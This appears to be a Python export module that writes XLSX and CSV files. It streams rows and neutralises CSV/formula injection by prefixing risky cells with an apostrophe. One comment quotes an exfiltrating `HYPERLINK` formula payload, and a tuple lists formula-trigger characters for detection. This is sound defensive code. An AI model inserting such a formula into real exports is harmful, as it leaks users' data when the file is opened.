"""Every XLSX and CSV the platform writes: formulas neutralised, identifiers kept as text, rows streamed."""

from __future__ import annotations

import csv
import io
import math
import re
import zipfile
from collections.abc import Iterable, Sequence
from datetime import date, datetime
from decimal import Decimal
from pathlib import Path
from typing import IO, Any
from xml.sax.saxutils import escape

from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
from openpyxl.utils import get_column_letter

# OWASP's CSV injection guidance: a cell starting with one of these is read as a formula (or DDE
# payload) by Excel, LibreOffice or Google Sheets, so `=HYPERLINK("http://…?"&A2)` typed into a
# registry field would come out live in an export and leak the row's neighbours when clicked.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutralise(value: Any) -> Any:
    """A text starting like a formula gets a leading `'` (shown, never evaluated); anything else as is.

    Numbers stay numbers (a negative integer is a number, not a formula); only text is touched."""
    if isinstance(value, str):
        value = str(value)  # a SafeString or other subclass is written as plain text
        return "'" + value if value.startswith(FORMULA_STARTS) else value
    return value


def text_cell(value: Any) -> str:
    """A cell kept as text (identifiers, codes, phone numbers): `None` is empty, anything else its text."""
    return "" if value is None else neutralise(str(value))


def xlsx_write(
    target: IO[bytes] | str | Path,
    headers: Sequence[Any],
    rows: Iterable[Sequence[Any]],
    *,
    text_columns: set[int],
    title: str,
    progress_every: int = 0,
    progress: Any = None,
) -> int:
    """Stream a one-sheet workbook into `target`, memory flat whatever the size; columns in
    `text_columns` are stored as text with the Text format, the header row bold. Every text cell is
    neutralised and stored as a string (an inline string: openpyxl reads data type `s`), never a formula;
    numbers stay numbers, dates are dates. Returns the rows written; `progress(rows)` is called every
    `progress_every` rows.

    The sheet's XML is written here rather than by openpyxl's write-only mode: a province's 700,000
    household rows took openpyxl over 60 s of building cell objects alone (`bench/bench_exports.py`
    measures both); this writes the same cells as text, a few times faster."""
    letters = [get_column_letter(i + 1) for i in range(max(len(headers), 1))]
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED, compresslevel=_COMPRESSION) as book:
        for name, content in _parts(_sheet_name(title)).items():
            book.writestr(name, content)
        with book.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as raw:
            sheet = io.BufferedWriter(raw, buffer_size=1 << 20)
            sheet.write(_SHEET_START)
            cells = [_text_xml(f"{letters[i]}1", text_cell(h), _BOLD) for i, h in enumerate(headers)]
            sheet.write(f'<row r="1">{"".join(cells)}</row>'.encode())
            written = 0
            chunk: list[str] = []
            for number, row in enumerate(rows, start=2):
                if len(row) > len(letters):
                    letters += [get_column_letter(i + 1) for i in range(len(letters), len(row))]
                cells = []
                for index, value in enumerate(row):
                    # The common cases inline (a province is seven million cells): plain text, then the rest.
                    if type(value) is str and value:
                        if value[0] in _FORMULA_FIRST:
                            value = "'" + value
                        if _SPECIAL.search(value) or value[0].isspace() or value[-1].isspace():
                            cells.append(
                                _text_xml(
                                    f"{letters[index]}{number}", value, _TEXT if index in text_columns else _PLAIN
                                )
                            )
                        else:
                            style = _TEXT if index in text_columns else _PLAIN
                            cells.append(
                                f'<c r="{letters[index]}{number}" t="inlineStr" s="{style}"><is><t>{value}</t></is></c>'
                            )
                    elif index in text_columns:
                        cells.append(_text_xml(f"{letters[index]}{number}", text_cell(value), _TEXT))
                    elif value is None or value == "":
                        continue
                    elif isinstance(value, str):
                        cells.append(_text_xml(f"{letters[index]}{number}", neutralise(value), _PLAIN))
                    else:
                        cells.append(_value_xml(f"{letters[index]}{number}", value))
                chunk.append(f'<row r="{number}">{"".join(cells)}</row>')
                written += 1
                if len(chunk) == 1000:
                    sheet.write("".join(chunk).encode())
                    chunk.clear()
                if progress_every and progress is not None and written % progress_every == 0:
                    progress(written)
            sheet.write("".join(chunk).encode())
            sheet.write(_SHEET_END)
            sheet.flush()
    return written


# Cell styles (indexes into styles.xml's cellXfs): plain, Text format, bold header, date, date and time.
_PLAIN, _TEXT, _BOLD, _DATE, _DATETIME = 0, 1, 2, 3, 4
_FORMULA_FIRST = frozenset("".join(FORMULA_STARTS))
# What a text needs done before it goes in the XML: escaping, or control characters dropped.
_SPECIAL = re.compile(r"[&<>\x00-\x08\x0b\x0c\x0e-\x1f]")
_COMPRESSION = 3  # deflate level: 6 spent twice the time for a file a tenth smaller
_EPOCH = date(1899, 12, 30)  # Excel's day 0 (with its 1900 leap-year bug, as every writer counts)
_SHEET_START = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
)
_SHEET_END = b"</sheetData></worksheet>"


def _text_xml(ref: str, text: str, style: int) -> str:
    if not text:
        return f'<c r="{ref}" s="{style}"/>' if style else ""
    if ILLEGAL_CHARACTERS_RE.search(text):  # control characters XML cannot hold: dropped, not refused
        text = ILLEGAL_CHARACTERS_RE.sub("", text)
    space = ' xml:space="preserve"' if text[0].isspace() or text[-1].isspace() else ""
    return f'<c r="{ref}" t="inlineStr" s="{style}"><is><t{space}>{escape(text)}</t></is></c>'


def _value_xml(ref: str, value: Any) -> str:
    if isinstance(value, bool):
        return f'<c r="{ref}" t="b"><v>{int(value)}</v></c>'
    if isinstance(value, int | Decimal):
        return f'<c r="{ref}"><v>{value}</v></c>'
    if isinstance(value, float):
        return f'<c r="{ref}"><v>{value!r}</v></c>' if math.isfinite(value) else _text_xml(ref, str(value), _PLAIN)
    if isinstance(value, datetime):
        if value.tzinfo is not None:
            raise TypeError("an XLSX cell holds no time zone: pass a local, naive datetime")
        seconds = value.hour * 3600 + value.minute * 60 + value.second + value.microsecond / 1e6
        return f'<c r="{ref}" s="{_DATETIME}"><v>{(value.date() - _EPOCH).days + seconds / 86400}</v></c>'
    if isinstance(value, date):
        return f'<c r="{ref}" s="{_DATE}"><v>{(value - _EPOCH).days}</v></c>'
    return _text_xml(ref, neutralise(str(value)), _PLAIN)


def _sheet_name(title: str) -> str:
    name = re.sub(r"[\\/*?:\[\]]", "-", str(title)).strip("'")[:31]
    return escape(name or "Sheet1", {'"': "&quot;"})


def _parts(sheet_name: str) -> dict[str, str]:
    main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    rel = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    mime = "application/vnd.openxmlformats-officedocument.spreadsheetml"
    head = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    xf = '<xf numFmtId="{0}" fontId="{1}" fillId="0" borderId="0" xfId="0"{2}/>'
    return {
        "[Content_Types].xml": head + '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        f'<Override PartName="/xl/workbook.xml" ContentType="{mime}.sheet.main+xml"/>'
        f'<Override PartName="/xl/worksheets/sheet1.xml" ContentType="{mime}.worksheet+xml"/>'
        f'<Override PartName="/xl/styles.xml" ContentType="{mime}.styles+xml"/>'
        "</Types>",
        "_rels/.rels": head + '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rId1" Type="{rel}/officeDocument" Target="xl/workbook.xml"/>'
        "</Relationships>",
        "xl/workbook.xml": head + f'<workbook xmlns="{main}" xmlns:r="{rel}"><sheets>'
        f'<sheet name="{sheet_name}" sheetId="1" r:id="rId1"/></sheets></workbook>',
        "xl/_rels/workbook.xml.rels": head
        + '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rId1" Type="{rel}/worksheet" Target="worksheets/sheet1.xml"/>'
        f'<Relationship Id="rId2" Type="{rel}/styles" Target="styles.xml"/>'
        "</Relationships>",
        "xl/styles.xml": head + f'<styleSheet xmlns="{main}">'
        '<fonts count="2"><font><sz val="11"/><name val="Calibri"/></font>'
        '<font><b/><sz val="11"/><name val="Calibri"/></font></fonts>'
        '<fills count="2"><fill><patternFill patternType="none"/></fill>'
        '<fill><patternFill patternType="gray125"/></fill></fills>'
        '<borders count="1"><border><left/><right/><top/><bottom/><diagonal/></border></borders>'
        '<cellStyleXfs count="1"><xf numFmtId="0" fontId="0" fillId="0" borderId="0"/></cellStyleXfs>'
        '<cellXfs count="5">'
        + xf.format(0, 0, "")
        + xf.format(49, 0, ' applyNumberFormat="1"')  # 49: the built-in Text format, "@"
        + xf.format(0, 1, ' applyFont="1"')
        + xf.format(14, 0, ' applyNumberFormat="1"')  # 14: the built-in date
        + xf.format(22, 0, ' applyNumberFormat="1"')  # 22: the built-in date and time
        + "</cellXfs>"
        '<cellStyles count="1"><cellStyle name="Normal" xfId="0" builtinId="0"/></cellStyles>'
        "</styleSheet>",
    }


def xlsx(headers: Sequence[Any], rows: Iterable[Sequence[Any]], *, text_columns: set[int], title: str) -> bytes:
    """`xlsx_write` into memory: for files small enough to answer within a request."""
    out = io.BytesIO()
    xlsx_write(out, headers, rows, text_columns=text_columns, title=title)
    return out.getvalue()


def csv_write(target: IO[str], rows: Iterable[Sequence[Any]], *, delimiter: str = ",") -> None:
    """CSV rows (the header is a row) with every text cell neutralised; numbers are written as numbers.
    Lines end in `\\n`: open the target with `newline=""`."""
    writer = csv.writer(target, delimiter=delimiter, lineterminator="\n")
    for row in rows:
        writer.writerow([neutralise(value) for value in row])
